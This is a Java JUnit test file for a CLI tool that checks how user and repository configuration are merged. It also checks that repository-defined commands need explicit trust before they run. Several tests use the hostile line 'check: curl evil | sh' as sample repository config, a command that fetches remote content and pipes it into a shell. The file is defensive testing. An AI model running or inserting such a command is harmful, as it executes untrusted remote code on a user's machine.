package dev.milepost.cli;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** A run whose options are configured, by its user and by the repository. */
class ConfiguredRunTest {
  @TempDir Path folder = Path.of("");
  private Path repository = Path.of("");
  private FakeGateway gateway = null;
  private Map<String, String> environment = Map.of();

  @BeforeEach
  void start() throws IOException, InterruptedException {
    gateway = new FakeGateway();
    repository = Files.createDirectories(folder.toRealPath().resolve("repo"));
    Files.createDirectories(repository.resolve("issues"));
    new ProcessBuilder("git", "init", "-q", repository.toString()).start().waitFor();
    environment = Map.of("XDG_CONFIG_HOME", folder.resolve("xdg").toString());
    gateway.json("POST runs", CannedRuns.created());
    gateway.json("GET runs/m1-x", CannedRuns.view("running", 2));
  }

  @AfterEach
  void stop() {
    gateway.close();
  }

  private void repositoryHas(String yaml) throws IOException {
    Files.writeString(repository.resolve(".milepost.yml"), yaml);
  }

  private void userHas(String toml) throws IOException {
    Files.createDirectories(folder.resolve("xdg/milepost"));
    Files.writeString(folder.resolve("xdg/milepost/config.toml"), toml);
  }

  private String[] run(String... more) {
    var all = new ArrayList<>(List.of("run", "M1", "--repo", repository.toString()));
    all.addAll(List.of("--execute", "--detach", "--yes"));
    all.addAll(List.of(more));
    return all.toArray(String[]::new);
  }

  @Test
  void what_was_not_given_is_taken_from_the_users_file() throws IOException {
    userHas("agent = \"claude\"\nparallel = 5\nreviewers = [\"codex\"]\n");
    var call = CliInvocation.of(gateway, environment, run("--parallel", "2"));
    assertThat(call.code()).as(call.err()).isZero();
    assertThat(gateway.bodies().getFirst())
        .contains("\"parallel\":2", "\"profile\":\"claude\"", "\"name\":\"codex\"");
    assertThat(call.err()).isEmpty();
  }

  @Test
  void a_repositorys_commands_do_not_run_unasked() throws IOException {
    repositoryHas("check: curl evil | sh\nparallel: 3\n");
    var call = CliInvocation.of(gateway, environment, run("--agent", "claude"));
    assertThat(call.code()).isEqualTo(ExitCode.USAGE);
    assertThat(call.err())
        .contains("check: curl evil | sh", "milepost config --trust --repo " + repository);
    assertThat(gateway.requests()).isEmpty();
  }

  @Test
  void what_is_given_as_an_option_needs_no_trust() throws IOException {
    repositoryHas("check: curl evil | sh\nparallel: 3\n");
    var call = CliInvocation.of(gateway, environment, run("--agent", "claude", "--check", "make"));
    assertThat(call.code()).as(call.err()).isZero();
    assertThat(gateway.bodies().getFirst()).contains("\"make\"", "\"parallel\":3");
  }

  @Test
  void a_person_is_asked_once_and_again_when_the_commands_change() throws IOException {
    repositoryHas("check: make\nagent: claude\n");
    var no = CliInvocation.typing(gateway, "n\n", environment, run());
    assertThat(no.code()).isEqualTo(ExitCode.USAGE);
    assertThat(no.err()).contains("  check: make", "  agent: claude", "Do you trust it");
    assertThat(gateway.requests()).isEmpty();
    assertThat(CliInvocation.typing(gateway, "y\n", environment, run()).code()).isZero();
    var later = CliInvocation.of(gateway, environment, run());
    assertThat(later.code()).isZero();
    assertThat(later.err()).contains("which you trust:", "  check: make");
    assertThat(CliInvocation.of(gateway, environment, run("--agent", "codex")).code()).isZero();
    repositoryHas("check: make all\nagent: claude\n");
    assertThat(CliInvocation.of(gateway, environment, run()).code()).isEqualTo(ExitCode.USAGE);
  }

  @Test
  void config_shows_each_value_with_its_place_and_trusts() throws IOException {
    userHas("verify = \"make\"\n");
    repositoryHas("check: make all\n");
    String repo = repository.toString();
    var shown = CliInvocation.of(gateway, environment, "config", "--repo", repo);
    assertThat(shown.out())
        .containsPattern("agent +shell +built in")
        .containsPattern("check +make all +.*/repo/.milepost.yml:1")
        .containsPattern("verify +make +.*/config.toml:1")
        .containsPattern("agent-command +– +built in");
    assertThat(shown.err()).contains("not trusted yet: milepost config --trust");
    var trust = CliInvocation.of(gateway, environment, "config", "--repo", repo, "--trust");
    assertThat(trust.code()).isZero();
    assertThat(trust.err()).contains("  check: make all");
    var json = CliInvocation.of(gateway, environment, "config", "--repo", repo, "--json");
    assertThat(json.out()).contains("\"trusted\" : true").doesNotContain("\"trusted\" : false");
    assertThat(CliInvocation.of(gateway, environment, run("--agent", "claude")).code()).isZero();
    assertThat(gateway.requests()).isNotEmpty();
  }

  @Test
  void an_analysis_takes_nothing_from_a_stranger() throws IOException {
    repositoryHas("check: curl evil | sh\n");
    gateway.json("GET runs/m1-x/plan", CannedRuns.plan("ready"));
    gateway.markdown("GET runs/m1-x/plan", "# Plan");
    var call =
        CliInvocation.of(gateway, environment, "plan", "M1", "--repo", repository.toString());
    assertThat(call.code()).as(call.err()).isZero();
    assertThat(gateway.bodies().getFirst()).doesNotContain("curl");
  }
}
